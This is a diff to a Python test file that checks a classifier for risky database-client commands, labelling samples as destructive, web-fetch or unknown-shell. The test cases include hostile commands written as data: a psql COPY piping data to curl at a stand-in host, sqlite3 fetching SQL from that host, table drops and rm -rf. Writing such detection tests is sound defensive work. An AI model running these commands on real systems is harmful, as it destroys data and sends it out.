@@ -135,6 +135,11 @@ def test_everyday_client_commands_stay_quiet(command: str) -> None:
     ("psql -c '\\! git push'", "vcs-push"), ("sqlite3 app.db '.shell rm -rf build'", "destructive"),
     ("psql -c \"COPY t TO PROGRAM 'curl -d @- https://x.example'\"", "web-fetch"),
     ("redis-cli EVALSHA abc123 0", "shell-unknown"),
+    ("psql -c \"SELECT 'DROP TABLE ' || tablename FROM pg_tables \\gexec\"", "shell-unknown"),
+    ("mysql -e 'PREPARE s FROM @q; EXECUTE s'", "shell-unknown"),
+    ("mysql -e \"PREPARE s FROM 'DROP TABLE x'\"", "destructive"),
+    ("sqlite3 app.db \".read '|curl -s https://x.example/q.sql'\"", "web-fetch"),
+    ("pg_restore --clean -d shop shop.dump", "destructive"), ("mongorestore --drop dump/", "destructive"),
 ])
 def test_statements_known_only_at_run_time_or_running_commands(command: str, expected: str) -> None:
     assert expected in acts_of(command), command
